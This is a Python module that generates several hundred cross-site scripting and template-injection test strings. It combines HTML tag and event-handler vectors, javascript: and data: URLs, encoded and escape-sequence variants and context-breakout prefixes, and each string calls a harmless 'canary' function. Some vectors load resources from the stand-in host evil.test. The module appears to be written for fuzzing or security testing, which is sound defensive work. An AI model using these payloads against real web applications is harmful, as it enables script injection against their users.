"""Texts that would like to be more than text: markup, templates, escapes, and ways out of where they are."""

from __future__ import annotations

from itertools import cycle, islice, product

CANARY = "canary"
"""What each of them would call or set, if it ran."""

_MARKUP = (
    "<script>{0}</script>",
    "<SCRIPT SRC=//evil.test/{1}.js></SCRIPT>",
    "<img src=x onerror={0}>",
    '<img src="x" onerror="{0}">',
    "<svg onload={0}>",
    "<svg><script>{0}</script></svg>",
    "<svg><animate onbegin={0} attributeName=x dur=1s>",
    "<body onload={0}>",
    "<iframe srcdoc='<script>parent.{0}</script>'>",
    '<iframe src="javascript:parent.{0}">',
    "<object data=javascript:{0}>",
    "<embed src=javascript:{0}>",
    "<details open ontoggle={0}>",
    "<input autofocus onfocus={0}>",
    "<video><source onerror={0}></video>",
    "<marquee onstart={0}>",
    "<math><mi xlink:href=javascript:{0}>x</mi></math>",
    "<style>@import '//evil.test/{1}.css';</style>",
    '<link rel=stylesheet href="//evil.test/{1}">',
    '<base href="//evil.test/">',
    '<meta http-equiv=refresh content="0;url=javascript:{0}">',
    '<form action="//evil.test/{1}"><button>x',
    '<a href="javascript:{0}">click</a>',
    "<template><script>{0}</script></template>",
    "<noscript><p title='</noscript><img src=x onerror={0}>'>",
    "<x v-html='\"<img src=x onerror={0}>\"'>",
    "<component :is=\"'script'\">{0}</component>",
    "<q-btn @click={0}>x</q-btn>",
    "<div v-on:mouseover={0}>x</div>",
)
_SCRIPT = (
    "{{{{ constructor.constructor('{0}')() }}}}",
    "{{{{ _openBlock.constructor('{0}')() }}}}",
    "${{{0}}}",
    "`+{0}+`",
    "\\`;{0};//",
    "';{0};//",
    '";{0};//',
    "*/;{0};/*",
    "\\u003cscript\\u003e{0}\\u003c/script\\u003e",
    "&lt;script&gt;{0}&lt;/script&gt;",
    "&#60;script&#62;{0}&#60;/script&#62;",
    "javascript:{0}",
    "data:text/html,<script>{0}</script>",
    "__proto__",
    ":innerHTML",
    "[click]({0})",
    "![x](javascript:{0})",
    "\x1b]8;;javascript:{0}\x1b\\link\x1b]8;;\x1b\\",
    "\x1b[2J\x1b[1;1H\x1b[31m<script>{0}</script>",
    "\x1b]0;{0}\x07",
    "\r\n\r\n<script>{0}</script>",
    "\u202e<script>{0}</script>\u202c",
    "\ufeff<script>{0}</script>",
    "<scr\u0000ipt>{0}</scr\u0000ipt>",
    "%3Cscript%3E{0}%3C/script%3E",
    "\u2028<script>{0}</script>",
)
_OUT_OF = (
    "",
    "</script>",
    "-->",
    "]]>",
    "</textarea>",
    "'\">",
    "</title>",
    "</td></tr></table>",
    "`;",
    "&#39;>",
)


def payloads(count: int = 500) -> list[str]:
    """So many different ones; each calls the canary with its own number."""
    shapes = [f"{way_out}{shape}" for way_out, shape in product(_OUT_OF, (*_MARKUP, *_SCRIPT))]
    return [
        shape.format(f"{CANARY}({number})", number)
        for number, shape in enumerate(islice(cycle(shapes), count))
    ]
